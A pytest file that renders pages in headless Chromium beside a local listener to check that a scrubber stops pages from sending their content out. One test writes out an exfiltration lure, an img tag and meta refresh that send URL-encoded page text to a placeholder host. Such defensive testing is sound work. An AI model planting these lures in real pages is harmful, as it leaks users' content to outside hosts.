"""Pages that would send words away, opened in a real browser that is listened to."""

import shutil
import subprocess
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread

import pytest

from tests.smuggled import AT, SMUGGLED
from tests.templates.views import TYPICAL
from tmworkshop.adapters.pages.finished import Pages
from tmworkshop.adapters.pages.plain_form import POLICY
from tmworkshop.adapters.pages.scrub import scrub_page

NAMES = ("chromium", "chromium-browser", "google-chrome", "chrome", "msedge")
BROWSER = next(filter(None, map(shutil.which, NAMES)), None)
OPTIONS = (
    *("--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking"),
    *("--allow-file-access-from-files", "--virtual-time-budget=8000", "--dump-dom"),
)
OWN = '{% extends "base.html" %}{% block page %}<p>Words</p>SMUGGLED{% endblock %}'

pytestmark = pytest.mark.skipif(not BROWSER, reason="needs Chromium")


@contextmanager
def listening():
    """Listen at a port of this machine; yield its address, and what was asked there."""
    asked = []

    class Heard(BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()

        do_POST = do_GET  # noqa: N815

        def log_message(self, *_):
            """Say nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Heard)
    Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()
    server.server_close()


def open_in_browser(home, pages):
    """Open *pages* in frames of one page, so that one start of the browser will do."""
    for number, page in enumerate(pages):
        (home / f"{number}.html").write_text(page, encoding="utf-8")
    frames = "".join(f'<iframe src="{n}.html"></iframe>' for n in range(len(pages)))
    (home / "all.html").write_text(f"<!doctype html><body>{frames}</body>")
    subprocess.run(
        [BROWSER, *OPTIONS, f"--user-data-dir={home / 'profile'}", home / "all.html"],
        check=True,
        capture_output=True,
        timeout=120,
    )


def hostile_pages(address):
    return [f"<p>Words</p>{each.replace(AT, address)}" for each in SMUGGLED.values()]


def test_a_page_that_was_not_scrubbed_does_send_words_away(tmp_path):
    with listening() as (address, asked):
        open_in_browser(tmp_path, hostile_pages(address))
    heard = {path.strip("/") for path in asked}
    assert {"script", "refresh", "img", "frame", "css-url", "import", "error"} <= heard


def test_a_page_that_was_scrubbed_asks_for_nothing(tmp_path):
    with listening() as (address, asked):
        scrubbed = [scrub_page(each).page for each in hostile_pages(address)]
        open_in_browser(tmp_path, scrubbed)
        # and as if no policy were there
        bare = tmp_path / "bare"
        bare.mkdir()
        open_in_browser(bare, [each.replace(POLICY, "") for each in scrubbed])
    assert asked == []


def test_a_page_of_someones_own_template_asks_for_nothing(tmp_path):
    own = tmp_path / "templates"
    own.mkdir()
    lure = '<img src="AT/?{{ page|string|urlencode }}"><meta http-equiv="refresh" '
    lure += 'content="0;url=AT/?{{ page|string|urlencode }}">'
    with listening() as (address, asked):
        template = OWN.replace("SMUGGLED", lure).replace("AT", address)
        (own / "participant.html").write_text(template)
        open_in_browser(tmp_path, [Pages(own).render("participant.html", TYPICAL)])
    assert asked == []
